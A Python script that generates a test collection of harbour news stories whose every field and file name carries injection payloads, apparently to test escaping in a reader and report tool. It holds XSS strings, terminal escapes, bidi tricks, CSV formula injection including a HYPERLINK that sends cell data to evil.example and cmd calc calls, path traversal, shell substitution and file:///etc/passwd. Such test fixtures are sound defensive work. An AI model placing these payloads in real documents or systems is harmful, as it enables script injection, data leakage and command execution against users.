"""A collection whose every field tries to break out of what shows it.

    python3 nasty_collection.py DIR

writes releases/ and coverage/ below DIR, and wrong/ with inputs that are rejected. The same payloads
stand in ids, titles, sources, addresses, dates, texts, names of files and of folders. A text comes
with an edited copy and, some, with a translation, so that every kind of row in every output has some
of it. Bytes depend on nothing.
"""
import json
import os
import sys

MARKUP = [
    "<script>document.title='pwned'</script>",
    "\"><img src=x onerror=\"document.title='pwned'\">",
    "'><svg/onload=document.title='pwned'>",
    "</style><script>document.title='pwned'</script><style>*{display:none}",
    "</title></code></summary></details><h1 id=pwned onclick=alert(1) style=color:red>pwned</h1>",
    "<!-- <base href='//evil.example/'> <meta http-equiv=refresh content='0;url=//evil.example/'>",
    "]]><iframe srcdoc='<p id=pwned>'></iframe>&lt;b&gt;&#60;i&#62; ${7*7} {{7*7}}",
]
TERMINAL = [
    "\x1b[2J\x1b[31mred\x1b]0;pwned\x07\x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "\u009b31mred\u009d0;pwned\u009c\u0090q\u009c\x9f",
    "back\b\b\b\b\x7f\rover\x00\x0b\x0c\x0e\x0fend",
    "line\nnew\r\nnext\u0085nel\u2028separator\u2029paragraph",
]
DIRECTION = [
    "\u202egnp.exe\u202c \u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c\u202a\u202b\u202d",
    "zero\u200bwidth\ufeff\u2060\u00ad\u200c\u200d\U000e0041\U000e007f\ufff9\ufffb\u180e",
]
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " \" ;=1+1;\n=1+1",
    "\uff1d1+1 \uff20x",
]
PATHS = ["../../pwned", "/tmp/../pwned", "C:\\pwned:NUL", "$(touch pwned)`touch pwned`;|& %s%n", "l" * 4080]
PAYLOADS = MARKUP + TERMINAL + DIRECTION + FORMULAS + PATHS

URLS = [
    "javascript:document.title='pwned'//",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>document.title='pwned'</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/",
    "https://news.example/?a=\"onmouseover=\"document.title='pwned'\" b='><script>",
    "https://news.example/\u202egnp.\x1b[31m\n<b>",
    "https://news.example/" + "u" * 4096,
    "https://news.example/?a=1&b='2'&c=\u00e9",
]

# What a reader keeps of a text: NUL goes.
SENTENCES = [
    "The harbour office of {place} opened the {n} gate on Monday after a week of repairs",
    "Forty crews waited outside the breakwater while divers of {place} cleared the {n} channel",
    "The harbour master, {name}, said that insurers had asked for a survey of all {n} piers",
    "Fishing boats of {place} paid no fees for the {n} days on which the quay was shut",
    "A second dredger is to come from {name} shipyard before the {n} storm of the season",
    "Traders in {place} counted losses of {n} million rupiah and asked the ministry for help",
]
INDONESIAN = [
    "Kantor pelabuhan {place} membuka gerbang {n} pada hari Senin setelah sepekan perbaikan",
    "Empat puluh awak menunggu di luar pemecah gelombang sementara penyelam {place} membersihkan alur {n}",
    "Kepala pelabuhan, {name}, mengatakan bahwa perusahaan asuransi meminta survei atas semua {n} dermaga",
    "Kapal nelayan {place} tidak membayar biaya selama {n} hari ketika dermaga ditutup",
    "Kapal keruk kedua akan datang dari galangan {name} sebelum badai {n} musim ini",
    "Pedagang di {place} menghitung kerugian {n} juta rupiah dan meminta bantuan kementerian",
]
PLACES = ["Sukamaju", "Tanjung Arang", "Lembah Biru", "Kota Pinang", "Muara Sari", "Batu Licin"]
NAMES = ["Yuliana Tampubolon", "Bagus Wirawan", "Sri Handayani", "Tomas Lubis", "Ratna Dewi"]


def sentences(patterns, i):
    """Those of the i-th story, in an order of its own."""
    values = {"place": PLACES[i % 6] + chr(65 + i), "name": NAMES[i % 5] + chr(97 + i), "n": 10 + 7 * i}
    return [patterns[(i + k * (1 + i % 5)) % 6].format(**values) + "." for k in range(6)]


def body(patterns, i, payload):
    told = list(dict.fromkeys(sentences(patterns, i)))
    return ". \n\n".join([" ".join(told[:3]) + " " + payload, payload + " " + " ".join(told[3:]), payload])


def record(i, payload, kind, text):
    return {
        "id": payload + " " + kind + str(i),
        "title": payload + " harbour " + str(i),
        "source": payload + (" wire" if kind == "copy" else " press"),
        "date": "2024-02-%02d" % (1 + i) if kind == "release" else payload,
        "url": URLS[i % len(URLS)],
        "text": text,
    }


def records():
    """(releases, coverage)"""
    releases, coverage = [], []
    for i, payload in enumerate(PAYLOADS):
        text = body(SENTENCES, i, payload)
        releases.append(record(i, payload, "release", text))
        coverage.append(record(i, payload, "copy", text.replace("harbour", "port").replace("week", payload)))
        coverage.append(record(i, payload, "terjemahan", body(INDONESIAN, i, payload)))
    return releases, coverage


def file_names():
    """Payloads that a file may be called."""
    return [p.replace("/", "\u2215").replace("\0", "")[:40] for p in PAYLOADS]


def write_lines(path, rows):
    with open(path, "w", encoding="utf-8", newline="\n") as out:
        for row in rows:
            out.write(json.dumps(row, ensure_ascii=False) + "\n")


def write_files(folder):
    for i, name in enumerate(file_names()):
        inside = os.path.join(folder, name + " folder") if i % 4 == 0 else folder
        os.makedirs(inside, exist_ok=True)
        title = json.dumps(PAYLOADS[i])  # JSON strings are YAML
        with open(os.path.join(inside, name + ".md"), "w", encoding="utf-8", newline="\n") as out:
            out.write("---\ntitle: %s\nsource: %s\nurl: %s\n---\n" % (title, title, json.dumps(URLS[i % len(URLS)])))
            out.write(body(SENTENCES, i, PAYLOADS[i]) + "\n")


def write_wrong(folder):
    """Inputs that are named on stderr, in run.json and in the report."""
    os.makedirs(folder)
    for i, name in enumerate(file_names()):
        with open(os.path.join(folder, name + ".jsonl"), "w", encoding="utf-8", newline="\n") as out:
            out.write("{\"id\": %s\n" % json.dumps(PAYLOADS[i]))
            out.write("{\"id\": \"twice\", \"text\": \"one two three\"}\n" * 2)
            out.write("{\"id\": %s}\n" % json.dumps(PAYLOADS[i]))


def write(folder):
    releases, coverage = records()
    os.makedirs(os.path.join(folder, "releases"))
    os.makedirs(os.path.join(folder, "coverage"))
    write_lines(os.path.join(folder, "releases", "releases.jsonl"), releases)
    write_lines(os.path.join(folder, "coverage", "coverage.jsonl"), coverage)
    write_files(os.path.join(folder, "coverage"))
    write_wrong(os.path.join(folder, "wrong"))


if __name__ == "__main__":
    write(sys.argv[1])
